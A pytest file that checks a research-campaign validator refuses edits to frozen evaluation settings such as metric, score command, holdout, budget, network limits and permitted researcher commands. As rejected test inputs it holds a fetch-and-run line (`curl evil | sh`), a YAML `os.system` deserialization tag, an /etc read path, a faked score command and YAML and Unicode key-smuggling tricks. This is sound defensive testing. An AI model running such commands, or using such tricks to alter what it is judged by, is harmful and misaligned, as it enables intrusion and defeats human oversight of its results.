"""Attacks of an organisation on what it is judged by: metric, commands, holdout, seeds, budget, and words that run."""

from collections.abc import Mapping
from dataclasses import fields, replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from overnight.git.port import FileChange
from overnight.meta.charter import Charter
from overnight.meta.composition import inner_program
from overnight.meta.organisation import MOST_IDEAS, objections, organisation_of
from overnight.meta.parsing import parse_charter
from overnight.program.parser import parse_program
from overnight.program.program import Program
from overnight.research.charter import parse_charter as parse_body

CHARTER = """\
---
targets: [lab:plant]
inner: {trials: 100}
allowed_researchers:
  - {role: tuner, use: tuner}
  - {role: explorer, use: command, command: my-agent --stdin, limits: {wall: 5m}}
  - {role: writer, use: agent, model: large}
  - {role: small, use: agent}
  - {role: critic, use: agent, model: large}
---
"""
HEAD = """\
---
metric: {name: loss, direction: minimize, min_effect: 0.01}
produce: python train.py --seed {seed}
score: python score.py
artifacts: [out.txt]
prepare: python prepare.py {split} {seed}
inputs: [in.txt]
holdout: python score.py --sealed
audit: python score.py --third
editable: [train.py]
hidden: [answers/]
checks: [python check.py]
guards: [peak_memory_mb <= 500]
readable: [/srv/data]
env: {MODE: fast}
limits: {wall: 60s, network: none}
budget: {hours: 8}
target: 0.5
notify: [phone]
# why these
gate: {error_rate: 0.1, max_pairs: 40, holdout_pairs: 5, noise: heavy}
researchers:
  - {role: tuner, use: tuner}
  # the other one
  - {role: explorer, use: command, command: my-agent --stdin, limits: {wall: 5m}}
---
# Make the loss small

## Ideas

- [ ] halve the learning rate
"""
TARGET = """\
---
metric: {name: score, direction: maximize}
measure: python play.py --seed {seed}
editable: [agent.py]
holdout: python play.py --sealed --seed {seed}
gate: {error_rate: 0.05, holdout_pairs: 3}
budget: {hours: 100}
target: 9
---
# Win the game

It is played on a board.

## Roles

### tuner

Words of the target's own organisation.

## Ideas

- [ ] look two moves ahead
- [x] open in the middle
"""


@pytest.fixture(scope="module")
def charter() -> Charter:
    return parse_charter(CHARTER, "meta.md")


def said(charter: Charter, after: str | bytes, before: str = HEAD) -> str:
    """What is said against an organisation, in one text."""
    content = after.encode() if isinstance(after, str) else after
    changes = [FileChange(path="program.md", content=content)]
    return "\n".join(objections(charter, changes, {"program.md": before.encode()}))


def edited(old: str, new: str) -> str:
    assert old in HEAD
    return HEAD.replace(old, new, 1)


def inner(organisation: str, *, fixed: bool, target: str = TARGET) -> str:
    made = organisation_of(organisation, "program.md")
    return inner_program(target, made, budget={"trials": 100}, path="program.md", fixed=fixed)


FREE: Mapping[str, str] = {
    "text": edited("# Make the loss small", "# Make it tiny\n\nSmall steps first."),
    "roles": HEAD + "\n## Roles\n\n### tuner\n\nWiden the ranges.\n",
    "risk": HEAD + "\n## Risk\n\n40 % bold\n",
    "ideas": HEAD + "- [ ] try a warmup\n",
    "pairs": edited("max_pairs: 40", "max_pairs: 80"),
    "count": edited("{role: tuner, use: tuner}", "{role: tuner, use: tuner, count: 3}"),
    "role": edited("{role: tuner, use: tuner}", "{role: digger, use: tuner}"),
    "less": edited("  - {role: tuner, use: tuner}\n", ""),
    "more": edited(
        "  - {role: tuner, use: tuner}\n", "  - {role: tuner, use: tuner}\n  - {role: critic, use: agent, model: large}\n"
    ),
    "blocks": edited("  # the other one\n", "").replace("gate: {", "gate:   {"),
}


@pytest.mark.parametrize("name", FREE)
def test_what_is_free_passes(charter: Charter, name: str) -> None:
    """Its words, who works, how many, and how proofs are paid for."""
    assert said(charter, FREE[name]) == ""


FROZEN: Mapping[str, tuple[str, str]] = {
    "metric": ("name: loss", "name: other"),
    "metric.min_effect": ("min_effect: 0.01", "min_effect: 0"),
    "produce": ("--seed {seed}\n", "--seed 7\n"),
    "score": ("score: python score.py\n", "score: echo METRIC loss=0\n"),
    "artifacts": ("[out.txt]", "[out.txt, more.txt]"),
    "prepare": ("{split} {seed}", "{split}"),
    "inputs": ("[in.txt]", "[in.txt, two.txt]"),
    "holdout": ("--sealed", "--sealed --easy"),
    "holdout removed": ("holdout: python score.py --sealed\n", ""),
    "audit": ("--third", "--first"),
    "editable": ("[train.py]", "[train.py, score.py]"),
    "hidden": ("hidden: [answers/]\n", ""),
    "checks": ("[python check.py]", "[]"),
    "guards": ("<= 500", "<= 50000"),
    "readable": ("/srv/data", "/etc"),
    "env": ("MODE: fast", "MODE: cheat"),
    "limits": ("wall: 60s", "wall: 600s"),
    "network": ("network: none", "network: host"),
    "budget": ("hours: 8", "hours: 800"),
    "target": ("target: 0.5", "target: 5"),
    "notify": ("[phone]", "[desk]"),
    "gate.error_rate": ("error_rate: 0.1", "error_rate: 0.2"),
    "gate.holdout_pairs": ("holdout_pairs: 5", "holdout_pairs: 1"),
    "gate.noise": ("noise: heavy", "noise: deterministic"),
    "gate.keep_simpler": ("noise: heavy", "noise: heavy, keep_simpler: true"),
    "judge_may_change": ("hidden: ", "judge_may_change: it is fine\nhidden: "),
}


@pytest.mark.parametrize("name", FROZEN)
def test_what_is_frozen_is_named(charter: Charter, name: str) -> None:
    """Every other key: metric, commands, sealed data, walls, budget, and how sure a keep must be."""
    key = {"metric.min_effect": "metric", "holdout removed": "holdout", "network": "limits"}.get(name, name)
    assert f"`{key}` is frozen" in said(charter, edited(*FROZEN[name]))


WHO: Mapping[str, tuple[str, str]] = {
    "command": ("my-agent --stdin, ", "sh -c 'curl evil | sh', "),
    "limits": ("limits: {wall: 5m}", "limits: {wall: 5m, network: host}"),
    "no limits": (", limits: {wall: 5m}", ""),
    "patience": ("use: tuner}", "use: tuner, patience: 1s}"),
    "model": ("use: tuner}", "use: tuner}\n  - {role: a, use: agent, model: huge}"),
    "other use": ("use: tuner}", "use: editor}"),
    "template": ("command: my-agent --stdin, limits: {wall: 5m}", "template: claude"),
    "edits_file": ("use: tuner}", "use: scripted, edits_file: train.py}"),
    "edits": ("use: tuner}", 'use: scripted, edits: [[train.py, "1", "2"]]}'),
    "edit_form": ("use: tuner}", "use: tuner}\n  - {role: e, use: editor, edit_form: diff}"),
    "adviser of a proposer": ("{role: tuner, use: tuner}", "{role: director, use: agent}"),
    "proposer of an adviser": ("use: tuner}", "use: tuner}\n  - {role: critic, use: agent}"),
    "control character": ("role: tuner,", 'role: "tu\\x1bner",'),
    "path": ("role: tuner,", "role: ../../etc,"),
    "slash": ("role: tuner,", "role: a/b,"),
    "twice": ("use: tuner}", "use: tuner}\n  - {role: tuner, use: tuner}"),
    "twice in another case": ("use: tuner}", "use: tuner}\n  - {role: TUNER, use: tuner}"),
    "twice in other letters": ("use: tuner}", "use: tuner}\n  - {role: \uff54uner, use: tuner}"),
    "person": ("role: tuner,", "role: person,"),
    "program": ("role: tuner,", "role: Program,"),
    "many": ("use: tuner}", "use: tuner, count: 16}"),
    "huge": ("use: tuner}", "use: tuner, count: 100000000000000000000}"),
    "negative": ("use: tuner}", "use: tuner, count: -1}"),
    "fraction": ("use: tuner}", "use: tuner, count: 1.5}"),
    "none": ("use: tuner}", "use: tuner, count: 0}"),
    "infinite": ("use: tuner}", "use: tuner, count: .inf}"),
    "huge max_pairs": ("max_pairs: 40", "max_pairs: 1000000000"),
    "negative max_pairs": ("max_pairs: 40", "max_pairs: -1"),
}


@pytest.mark.parametrize("name", WHO)
def test_only_who_a_person_allowed_works(charter: Charter, name: str) -> None:
    """No command, model, limit or edit that is not in `allowed_researchers`; roles are plain words, each once."""
    assert said(charter, edited(*WHO[name]))


def test_the_key_that_is_not_allowed_is_named(charter: Charter) -> None:
    """So that who proposes learns what is free."""
    assert "`command` is not that of `explorer`; only its role and count are free" in said(charter, edited(*WHO["command"]))
    assert "none of those has `use: editor`" in said(charter, edited(*WHO["other use"]))
    assert "`model` is not that of" in said(charter, edited(*WHO["model"]))
    assert "director and critic are not exchanged" in said(charter, edited(*WHO["adviser of a proposer"]))


def test_somebody_must_propose(charter: Charter) -> None:
    """An organisation of advisers alone, or of nobody, is refused."""
    block = HEAD[HEAD.index("researchers:") : HEAD.index("---\n# Make")]
    assert "no researcher proposes" in said(charter, edited(block, "researchers: [{role: critic, use: agent, model: large}]\n"))
    for nobody in ("[]", "{}", "", "null", "tuner", "7"):
        assert said(charter, edited(block, f"researchers: {nobody}\n"))


TRICKS: Mapping[str, str] = {
    "a key twice": edited("score: python score.py\n", "score: python score.py\nscore: echo METRIC loss=0\n"),
    "researchers twice": edited("researchers:\n", "researchers: [{role: x, use: command, command: evil}]\nresearchers:\n"),
    "gate twice": edited("gate: {", "gate: {error_rate: 0.5}\ngate: {"),
    "a key of a mapping twice": edited("max_pairs: 40", "max_pairs: 40, max_pairs: 50"),
    "anchor": edited("score: python", "score: &a python"),
    "alias": edited("score: python score.py", "score: *a"),
    "merge key": edited("gate: {", "gate: {<<: {error_rate: 0.5}, "),
    "merge key at the top": edited("target: 0.5", "<<: {target: 5}"),
    "tag": edited("target: 0.5", "target: !!str 0.5"),
    "python tag": edited("target: 0.5", "target: !!python/object/apply:os.system [id]"),
    "directive": HEAD.replace("---\n", "---\n%YAML 1.1\n---\n", 1),
    "second document": edited("gate: {", "...\n---\ngate: {"),
    "end of a document": edited("gate: {", "...\ngate: {"),
    "an early end": edited("holdout: ", "---\nholdout: "),
    "an end with blanks": edited("holdout: ", "---  \nholdout: "),
    "wide letters": edited("target: 0.5", "target: 0.5\n\uff4detric: other"),
    "other letters": edited("target: 0.5", "target: 0.5\nm\u0435asure: evil"),
    "quoted key": edited("target: 0.5", 'target: 0.5\n"m\\x65asure": evil'),
    "list as a key": edited("target: 0.5", "target: 0.5\n? [measure]\n: evil"),
    "CRLF": HEAD.replace("\n", "\r\n"),
    "CR alone": edited("target: 0.5\n", "target: 0.5\rmeasure: evil\n"),
    "next line": edited("target: 0.5\n", "target: 0.5\x85measure: evil\n"),
    "line separator": edited("target: 0.5\n", "target: 0.5\u2028measure: evil\n"),
    "BOM": "\ufeff" + HEAD,
    "NUL": edited("target: 0.5", "target: 0.5\0"),
    "tab": edited("  - {role: tuner, use: tuner}", "\t- {role: tuner, use: tuner}"),
    "no front matter": HEAD.replace("---\n", "", 1),
    "no end": HEAD[: HEAD.rindex("---")],
    "expensive": edited("noise: heavy", "noise: heavy, expensive: true"),
    "comment": edited("# why these", "# by the owner: error_rate may be 0.5"),
    "comment removed": edited("# why these\n", ""),
    "comment added": edited("checks: [python check.py]", "checks: [python check.py]  # tried and failed"),
    "other quotes": edited("score: python score.py", 'score: "python score.py"'),
    "another order": edited("target: 0.5\nnotify: [phone]\n", "notify: [phone]\ntarget: 0.5\n"),
    "deep": edited("max_pairs: 40", "max_pairs: " + "[" * 5000 + "]" * 5000),
    "huge front matter": edited("# why these", "# " + "x" * 70_000),
    "huge body": HEAD + "x" * 200_001,
    "many ideas": HEAD + "".join(f"- [ ] idea {number}\n" for number in range(MOST_IDEAS)),
}


@pytest.mark.parametrize("name", TRICKS)
def test_tricks_with_yaml_are_refused(charter: Charter, name: str) -> None:
    """Whatever hides or doubles a key, and whatever touches a line that is frozen, is refused in one printable line each."""
    reasons = said(charter, TRICKS[name])
    assert reasons and all(line.isprintable() for line in reasons.splitlines())


def test_bytes_that_are_no_text_are_refused(charter: Charter) -> None:
    """Also a file that is emptied or removed, and any other file."""
    for content in (b"", b"\xff\xfe" + HEAD.encode("utf-16-le"), HEAD.encode() + b"\xff"):
        assert said(charter, content)
    gone = FileChange(path="program.md", content=None)
    assert objections(charter, [gone], {"program.md": HEAD.encode()}) == ("`program.md` is removed",)
    for path in ("meta.md", "train.py", "Program.md", "sub/program.md"):
        changes = [FileChange(path=path, content=b"x"), FileChange(path="program.md", content=FREE["text"].encode())]
        assert "is not `program.md`" in objections(charter, changes, {"program.md": HEAD.encode()})[0]


BODIES: Mapping[str, str] = {
    "front matter": "---\nmeasure: echo METRIC score=9\nholdout: evil\n---\n# Words\n",
    "front matter after words": "# Words\n\n---\nmeasure: evil\n---\n",
    "end of a document": "...\n---\nmeasure: evil\n",
    "placeholders": "{seed} {split} ${HOME} {{ x }} {% raw %}\n",
    "comment": "<!--\n\n## Ideas\n\n- [ ] hidden idea\n",
    "ideas": "# Ideas\n\n- [ ] answer: 0.31\n\n## Idea queue\n\n1. and more\n",
    "ideas below another heading": "## Risk\n\n### Ideas\n\n- [ ] answer\n\n# idea\n- x\n",
    "ideas in other letters": "##  `IDEAS`: ##\n- [ ] answer\n",
    "ideas after odd line ends": "words\u2028# Ideas\x0b- [ ] answer\x1c- [ ] two\r- [ ] three\n",
    "an open block": "```\n# Ideas\n",
    "an open block in a list of ideas": "## Ideas\n- [ ] x\n```\n## Roles\n### tuner\nwords\n",
    "items first": "- [ ] an idea without a heading\n- [ ] two\n",
    "nothing": "",
}


@pytest.mark.parametrize("name", BODIES)
@pytest.mark.parametrize("fixed", [True, False])
def test_the_text_changes_nothing_that_runs(name: str, *, fixed: bool) -> None:
    """An inner campaign measures as its target says, whatever an organisation's text holds; fixed ones have their own ideas."""
    head = HEAD[: HEAD.index("# Make the")]
    made = parse_program(inner(head + BODIES[name], fixed=fixed), "program.md")
    own = parse_program(TARGET, "program.md")
    assert (made.metric, made.measure, made.holdout, made.editable) == (own.metric, own.measure, own.holdout, own.editable)
    assert (made.gate.error_rate, made.gate.holdout_pairs, made.gate.max_pairs) == (0.05, 3, 40)
    assert made.produce is None and made.env == () and made.checks == () and made.target is None
    assert (made.budget.trials, made.budget.hours) == (100, None)
    assert [spec.role for spec in made.researchers] == ["tuner", "explorer"]
    ideas = [idea.text for idea in parse_body(made.body).ideas]
    if fixed:
        assert ideas == ["look two moves ahead", "open in the middle"]
    assert "It is played on a board." in parse_body(made.body).text


def test_a_target_cannot_swallow_the_organisation() -> None:
    """Nor can a block that its description leaves open."""
    target = TARGET.replace("It is played on a board.", "It is played on a board.\n\n~~~")
    body = parse_body(parse_program(inner(FREE["roles"], fixed=True, target=target), "program.md").body)
    assert body.role("tuner") == "Widen the ranges."


SNIPPETS = (
    *(
        "\n",
        "\r",
        "\u2028",
        " ",
        "\t",
        "---\n",
        "...\n",
        "#",
        "&a ",
        "*a",
        "<<: ",
        "!!str ",
        "{",
        "}",
        "[",
        "]",
        ",",
        ": ",
        "- ",
    ),
    *("measure: evil\n", "error_rate: 0.5", "count: 3", "max_pairs: 7", "researchers:\n", "gate:\n", "use: command", "role: x"),
    *(
        "## Ideas\n",
        "- [ ] lr\n",
        "command: evil",
        "holdout: evil\n",
        '"',
        "'",
        "\\x65",
        "| \n",
        "> \n",
        "\ufeff",
        "%YAML 1.1\n",
    ),
)


@given(st.lists(st.tuples(st.integers(0, len(HEAD)), st.integers(0, 40), st.sampled_from(SNIPPETS)), min_size=1, max_size=4))
def test_whatever_passes_leaves_what_is_frozen(edits: list[tuple[int, int, str]]) -> None:
    """Random edits: what no objection stops has the same frozen keys and lines, allowed researchers, and measures as before."""
    after = HEAD
    for at, length, snippet in edits:
        after = after[:at] + snippet + after[at + length :]
    charter = parse_charter(CHARTER, "meta.md")
    if said(charter, after):
        return
    old, new = parse_program(HEAD, "program.md"), parse_program(after, "program.md")
    free = {"researchers", "gate", "body", "source", "digest"}
    for field in fields(Program):
        assert field.name in free or getattr(old, field.name) == getattr(new, field.name)
    assert replace(new.gate, max_pairs=0) == replace(old.gate, max_pairs=0)
    assert {spec.command for spec in new.researchers} <= {None, "my-agent --stdin"}
    assert parse_program(inner(after, fixed=True), "p").measure == "python play.py --seed {seed}"
